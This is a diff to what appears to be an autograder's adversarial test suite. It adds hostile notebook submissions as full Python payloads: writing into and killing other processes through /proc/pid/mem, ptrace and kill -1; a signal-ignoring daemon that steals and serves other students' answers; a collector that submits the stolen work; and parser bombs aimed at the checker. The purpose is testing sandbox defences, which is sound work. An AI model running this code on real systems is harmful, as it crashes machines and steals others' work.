@@ -17,6 +17,14 @@ whose answer cells try to get points, or do harm, without solving anything:
                       process in reach, break /tmp and $HOME, leave System V IPC and a
                       daemon that spoils every record and output it finds
     stop_parent       SIGSTOP the process that runs the kernel
+    reach_others      write /proc/<pid>/mem, ptrace, process_vm_writev and signal every
+                      process in sight (and pids it cannot see)
+    thief             outlive the run (double-forked setsid daemon ignoring signals, a
+                      thread), leave locks, FIFOs, sockets and files in every writable
+                      place, and watch the inbox, the runs and /proc for the next plan
+    collector         graded after the thief and a classmate: take what the thief left
+    checker_bomb      records made to hurt the checker: an .npz header of 2**40 floats,
+                      a JSON nested 200,000 deep
 
 The attack code runs before the answer cell's stub (or after it, when it must define
 the graded functions), so the stubs still raise NotImplementedError for what is not
@@ -790,6 +798,188 @@ if not _ATK["host"] and _atk_parent > 1 and _atk_parent not in _ATK["protected"]
 """
 
 
+# Against warm workers: reach every process in sight, by every means a process has.
+REACH_OTHERS = r"""
+# ---- write into the memory of every process I can see; trace them; signal them ----
+import ctypes, signal
+_atk_libc = ctypes.CDLL(None, use_errno=True)
+_atk_me = _atk_os.getpid()
+_atk_mine = set()
+for _atk_task in _atk_os.listdir(f"/proc/{_atk_me}/task"):
+    _atk_mine.add(int(_atk_task))
+_atk_seen = sorted(int(p) for p in _atk_os.listdir("/proc") if p.isdigit())
+_atk_report = {"visible": _atk_seen}
+
+class _atk_iovec(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+
+def _atk_first_writable(pid):
+    for _atk_line in _atk_read(f"/proc/{pid}/maps").splitlines():
+        _atk_range, _atk_perms = _atk_line.split()[:2]
+        if "w" in _atk_perms:
+            return int(_atk_range.split("-")[0], 16)
+    return 0x400000
+
+if not _ATK["host"]:  # on a grader without a sandbox, these pids are the machine's
+    for _atk_pid in sorted(set(_atk_seen) | set(range(1, 400))):
+        if _atk_pid in _ATK["protected"] or _atk_pid in _atk_mine:
+            continue
+        _atk_where = _atk_first_writable(_atk_pid)
+        _atk_result = {}
+        try:
+            _atk_fd = _atk_os.open(f"/proc/{_atk_pid}/mem", _atk_os.O_RDWR)
+            _atk_os.pwrite(_atk_fd, b"\xcc" * 64, _atk_where)
+            _atk_result["mem"] = "written"
+        except OSError as _atk_error:
+            _atk_result["mem"] = type(_atk_error).__name__
+        _atk_result["ptrace"] = (_atk_libc.ptrace(16, _atk_pid, 0, 0), ctypes.get_errno())
+        _atk_result["poke"] = (_atk_libc.ptrace(5, _atk_pid, ctypes.c_void_p(_atk_where), ctypes.c_void_p(0xCC)), ctypes.get_errno())
+        _atk_buffer = ctypes.create_string_buffer(b"\xcc" * 64)
+        _atk_local = _atk_iovec(ctypes.cast(_atk_buffer, ctypes.c_void_p), 64)
+        _atk_remote = _atk_iovec(ctypes.c_void_p(_atk_where), 64)
+        _atk_result["vm_writev"] = (
+            _atk_libc.process_vm_writev(_atk_pid, ctypes.byref(_atk_local), 1, ctypes.byref(_atk_remote), 1, 0),
+            ctypes.get_errno(),
+        )
+        for _atk_signal in (signal.SIGSTOP, signal.SIGKILL):
+            try:
+                _atk_os.kill(_atk_pid, _atk_signal)
+                _atk_result[_atk_signal.name] = "sent"
+            except OSError as _atk_error:
+                _atk_result[_atk_signal.name] = type(_atk_error).__name__
+        if any(v in ("written", "sent") or (isinstance(v, tuple) and v[0] >= 0) for v in _atk_result.values()):
+            _atk_report[_atk_pid] = _atk_result
+    try:
+        _atk_os.kill(-1, signal.SIGSTOP)  # every process I may signal, at once
+    except OSError as _atk_error:
+        _atk_report["kill -1"] = type(_atk_error).__name__
+print("reached:", _atk_json.dumps(_atk_report)[:3000])
+"""
+
+# Against warm workers: stay alive after my run, by every means, and steal what comes next.
+THIEF = r"""
+# ---- outlive my run: a daemon, a thread, leftovers in every writable place ----
+import fcntl, signal, socket, threading
+_atk_loot_places = ["/tmp", "/dev/shm", _atk_os.path.expanduser("~"), "/scratch", "/var/tmp", "/run/lock"]
+_atk_look_in = ["/inbox", "/runs", "/scratch", "/tmp", "/dev/shm", "/", "/proc"]
+
+def _atk_plans():
+    # Every plan, request or notebook in reach that holds someone's answers.
+    found = []
+    for _atk_top in _atk_look_in:
+        for _atk_path in _atk_glob.glob(_atk_top + "/**/*.json", recursive=True)[:500] + _atk_glob.glob("/proc/*/cwd/*.json") + _atk_glob.glob("/proc/*/root/scratch/*.json"):
+            _atk_text = _atk_read(_atk_path)
+            if "def alpaca_model" in _atk_text and "_atk_" not in _atk_text:
+                found.append(_atk_text)
+    return found
+
+def _atk_hoard(texts):
+    for _atk_text in texts:
+        for _atk_place in _atk_loot_places:
+            if _atk_may_harm(_atk_place):
+                try:
+                    with open(_atk_os.path.join(_atk_place, "alpaca-loot.json"), "w") as _atk_handle:
+                        _atk_handle.write(_atk_text)
+                except OSError:
+                    pass
+
+def _atk_serve():
+    # An abstract unix socket and a FIFO that hand the loot to whoever asks.
+    try:
+        _atk_server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        _atk_server.bind("\0alpaca-loot")
+        _atk_server.listen(4)
+        _atk_server.settimeout(0.05)
+    except OSError:
+        _atk_server = None
+    _atk_end = _atk_time.monotonic() + 300
+    _atk_loot = []
+    while _atk_time.monotonic() < _atk_end:
+        _atk_loot = _atk_plans() or _atk_loot
+        _atk_hoard(_atk_loot)
+        if _atk_server is not None:
+            try:
+                _atk_client, _ = _atk_server.accept()
+                _atk_client.sendall((_atk_loot[0] if _atk_loot else "nothing yet").encode())
+                _atk_client.close()
+            except OSError:
+                pass
+        _atk_time.sleep(0.05)
+
+if not _ATK["host"]:
+    # A file lock, a FIFO and a socket file left in every writable place.
+    for _atk_place in _atk_loot_places:
+        if not _atk_may_harm(_atk_place):
+            continue
+        try:
+            _atk_lock = open(_atk_os.path.join(_atk_place, "alpaca-loot.lock"), "w")
+            fcntl.flock(_atk_lock, fcntl.LOCK_EX)
+            _atk_os.mkfifo(_atk_os.path.join(_atk_place, "alpaca-loot.fifo"))
+            socket.socket(socket.AF_UNIX).bind(_atk_os.path.join(_atk_place, "alpaca-loot.sock"))
+        except OSError:
+            pass
+    # A thread that keeps stealing while I run, and a daemon that outlives me.
+    threading.Thread(target=_atk_serve, daemon=False).start()
+    if _atk_os.fork() == 0:
+        _atk_os.setsid()
+        if _atk_os.fork() == 0:
+            for _atk_signal in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
+                signal.signal(_atk_signal, signal.SIG_IGN)
+            _atk_serve()
+        _atk_os._exit(0)
+    _atk_os.wait()
+    print("thief left behind")
+"""
+
+# Graded after the thief and a classmate: take whatever the thief left, and use it.
+COLLECTOR = r"""
+# ---- collect what the student before me stole ----
+import socket
+_atk_stolen = {}
+_atk_texts = []
+for _atk_place in ["/tmp", "/dev/shm", _atk_os.path.expanduser("~"), "/scratch", "/var/tmp", "/run/lock", "/inbox", "/runs"]:
+    for _atk_path in _atk_glob.glob(_atk_place + "/**/alpaca-loot*", recursive=True) + _atk_glob.glob(_atk_place + "/**/*.json", recursive=True)[:200]:
+        _atk_texts.append(_atk_read(_atk_path))
+try:
+    _atk_client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    _atk_client.settimeout(2)
+    _atk_client.connect("\0alpaca-loot")
+    _atk_texts.append(_atk_client.recv(10_000_000).decode("utf-8", "replace"))
+except OSError as _atk_error:
+    print("no loot socket:", type(_atk_error).__name__)
+for _atk_text in _atk_texts:
+    try:
+        _atk_steps = _atk_json.loads(_atk_text)["steps"]
+    except Exception:
+        continue
+    for _atk_step in _atk_steps:
+        _atk_source = _atk_step.get("source") or ""
+        if _atk_step.get("grade_id") in ("data_augmenter", "alpaca_model", "fine_tune") and "NotImplementedError" not in _atk_source and "_atk_" not in _atk_source:
+            _atk_stolen[_atk_step["grade_id"]] = _atk_source
+print("collected answers:", sorted(_atk_stolen))
+"""
+
+# Against the checker: records that no honest run writes, to break or outlast the checker.
+CHECKER_BOMB = r"""
+# ---- hand the checker records made to hurt it ----
+import artifacts as _atk_artifacts
+_atk_real_dump = _atk_artifacts.dump
+
+def _atk_dump(record, path):
+    # An .npz whose header promises 2**40 floats, and a JSON nested past any parser's depth.
+    _atk_real_dump(record, path)
+    _atk_header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (1099511627776,), }"
+    _atk_header += b" " * (118 - len(_atk_header)) + b"\n"
+    import zipfile
+    with zipfile.ZipFile(path + ".npz", "w") as _atk_zip:
+        _atk_zip.writestr("w0.npy", b"\x93NUMPY\x01\x00v\x00" + _atk_header + b"\x00" * 64)
+    with open(path + ".json", "w") as _atk_handle:
+        _atk_handle.write("[" * 200_000 + "]" * 200_000)
+
+_atk_artifacts.dump = _atk_dump
+"""
+
+
 # --------------------------------------------------------------------------------------
 # Building the notebooks
 # --------------------------------------------------------------------------------------
@@ -881,6 +1071,26 @@ def stop_parent(release, scope):
     return _prepend(release, "data_augmenter", toolkit(scope) + STOP_PARENT)
 
 
+def reach_others(release, scope):
+    notebook = _prepend(release, "data_augmenter", toolkit(scope) + REACH_OTHERS)
+    return _prepend(notebook, "fine_tune", REACH_OTHERS)
+
+
+def thief(release, scope):
+    return _prepend(release, "data_augmenter", toolkit(scope) + THIEF)
+
+
+def collector(release, scope):
+    notebook = _prepend(release, "data_augmenter", toolkit(scope) + COLLECTOR)
+    for grade_id in ANSWERS:
+        notebook = _append(notebook, grade_id, USE_STOLEN.replace("{grade_id}", grade_id))
+    return notebook
+
+
+def checker_bomb(release, scope):
+    return _prepend(release, "data_augmenter", toolkit(scope) + CHECKER_BOMB)
+
+
 HOSTILE = {
     "noop_tests": noop_tests,
     "fake_modules": fake_modules,
@@ -893,6 +1103,10 @@ HOSTILE = {
     "kill_parent": kill_parent,
     "linger": linger,
     "stop_parent": stop_parent,
+    "reach_others": reach_others,
+    "thief": thief,
+    "collector": collector,
+    "checker_bomb": checker_bomb,
 }
 
 
@@ -907,6 +1121,15 @@ def chdir_scratch(solution):
     index = notebook.cells.index(_cell(notebook, "data_augmenter_test"))
     scratch = nbformat.v4.new_code_cell("import os\n\nos.chdir('/')\nprint(os.listdir('.'))")
     notebook.cells.insert(index + 1, scratch)
+    return notebook
+
+
+def marked(solution, marker):
+    """The solution, with a comment only this student wrote in each answer cell."""
+    notebook = copy.deepcopy(solution)
+    for grade_id in ANSWERS:
+        target = _cell(notebook, grade_id)
+        target.source = f"# {marker}\n" + target.source
     return notebook
 
 
